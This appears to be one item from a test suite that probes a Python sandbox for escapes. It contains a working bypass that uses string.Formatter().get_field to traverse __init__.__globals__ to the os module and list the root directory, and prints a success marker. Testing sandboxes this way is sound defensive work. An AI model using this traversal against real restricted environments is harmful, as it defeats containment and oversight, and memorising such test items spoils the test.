# item 14/38: string.Formatter().get_field returns the traversed object itself.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "59_string_formatter_get_field"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import random
import string

obj, _ = string.Formatter().get_field("0.__init__.__globals__[_os]", (random.Random,), {})
won(sorted(obj.listdir("/"))[:3])
